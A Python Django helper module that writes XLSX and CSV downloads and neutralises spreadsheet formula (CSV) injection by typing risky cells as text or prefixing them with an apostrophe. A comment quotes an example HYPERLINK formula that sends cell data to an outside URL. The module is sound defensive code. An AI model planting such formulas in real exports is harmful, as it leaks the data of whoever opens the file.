from __future__ import annotations

import io
from collections.abc import Iterable, Sequence

from django.http import HttpResponse
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell

XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
# A cell that begins with one of these is a formula to Excel and other spreadsheets (CSV injection): a
# name such as =HYPERLINK("http://…?d="&H2,"点击") would run on the reader's machine.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _dangerous(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def safe_row(sheet, row: Iterable) -> list:
    """A row for `sheet.append` with every text that would start a formula written as text: a string
    cell (openpyxl takes a text beginning with "=" for a formula otherwise). Every workbook writer
    appends its rows through here."""
    cells = []
    for value in row:
        if _dangerous(value):
            cell = WriteOnlyCell(sheet, value=value)
            cell.data_type = "s"
            value = cell
        cells.append(value)
    return cells


def safe_csv_row(row: Iterable) -> list:
    """A CSV row with every text that would start a formula prefixed by an apostrophe (OWASP): a CSV
    has no cell types, so a spreadsheet opening it would otherwise evaluate it."""
    return [f"'{value}" if _dangerous(value) else value for value in row]


def xlsx_response(filename: str, header: Sequence, rows: Iterable[Sequence]) -> HttpResponse:
    """A one-sheet workbook as a download (write-only mode: memory stays flat for long exports)."""
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet()
    sheet.append(safe_row(sheet, header))
    for row in rows:
        sheet.append(safe_row(sheet, row))
    buffer = io.BytesIO()
    workbook.save(buffer)
    return bytes_response(filename, buffer.getvalue())


def bytes_response(filename: str, content: bytes, content_type: str = XLSX_TYPE) -> HttpResponse:
    response = HttpResponse(content, content_type=content_type)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
